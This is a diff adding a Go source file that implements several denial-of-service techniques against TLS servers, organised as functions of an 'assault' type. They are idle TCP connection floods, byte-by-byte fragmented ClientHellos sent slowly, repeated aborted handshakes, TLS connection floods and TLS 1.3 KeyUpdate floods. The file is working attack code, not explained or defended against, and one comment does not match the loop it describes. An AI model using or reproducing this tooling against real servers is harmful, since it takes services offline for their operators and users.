@@ -1,0 +1,122 @@
+package main
+
+import (
+	"bytes"
+	"crypto/tls"
+	"io"
+	"net"
+	"time"
+)
+
+func tcpIdle(a *assault) error {
+	// Several connections for each worker: an idle flood is about their number.
+	for range 5 {
+		c, err := a.dial()
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		a.units.Add(1)
+	}
+	a.wait(time.Hour)
+	return nil
+}
+
+// hello is a whole ClientHello, in one record.
+func (a *assault) hello() ([]byte, error) {
+	near, far := net.Pipe()
+	defer far.Close()
+	go func() {
+		_ = tls.Client(near, a.tlsConfig("h2")).Handshake()
+		near.Close()
+	}()
+	header := make([]byte, 5)
+	if _, err := io.ReadFull(far, header); err != nil {
+		return nil, err
+	}
+	body := make([]byte, int(header[3])<<8|int(header[4]))
+	_, err := io.ReadFull(far, body)
+	return append(header, body...), err
+}
+
+func tlsFragments(a *assault) error {
+	hello, err := a.hello()
+	if err != nil {
+		return err
+	}
+	c, err := a.dial()
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	for _, b := range hello[5:] {
+		// A record of its own for each byte (RFC 8446 5.1 allows it).
+		if _, err := c.Write([]byte{22, 3, 1, 0, 1, b}); err != nil {
+			return err
+		}
+		a.units.Add(1)
+		if !a.wait(20 * time.Millisecond) {
+			return nil
+		}
+	}
+	return nil
+}
+
+func tlsAborted(a *assault) error {
+	hello, err := a.hello()
+	if err != nil {
+		return err
+	}
+	for a.ctx.Err() == nil {
+		c, err := a.dial()
+		if err != nil {
+			return err
+		}
+		_, err = c.Write(hello)
+		if err == nil {
+			_, err = io.ReadFull(c, make([]byte, 100))
+		}
+		c.Close()
+		if err != nil {
+			return err
+		}
+		a.units.Add(1)
+	}
+	return nil
+}
+
+func tlsConnections(a *assault) error {
+	c, err := a.dialTLS("h2")
+	if err != nil {
+		return err
+	}
+	a.units.Add(1)
+	return c.NetConn().Close()
+}
+
+// keyed lets a TLS 1.3 client of our own send handshake messages after the handshake, which crypto/tls does not.
+func tlsKeyUpdates(a *assault) error {
+	k, err := a.openKeyed()
+	if err != nil {
+		return err
+	}
+	defer k.wire.Close()
+	go func() {
+		_, _ = io.Copy(io.Discard, k.wire)
+		k.wire.Close()
+	}()
+	var out bytes.Buffer
+	for a.ctx.Err() == nil {
+		for out.Len() < batch {
+			// update_requested (RFC 8446 4.6.3). Ten of them, then a byte of a request, as servers count those without data.
+			k.seal(&out, 22, []byte{24, 0, 0, 1, 1})
+			k.update()
+			a.units.Add(1)
+		}
+		if _, err := k.wire.Write(out.Bytes()); err != nil {
+			return err
+		}
+		out.Reset()
+	}
+	return nil
+}
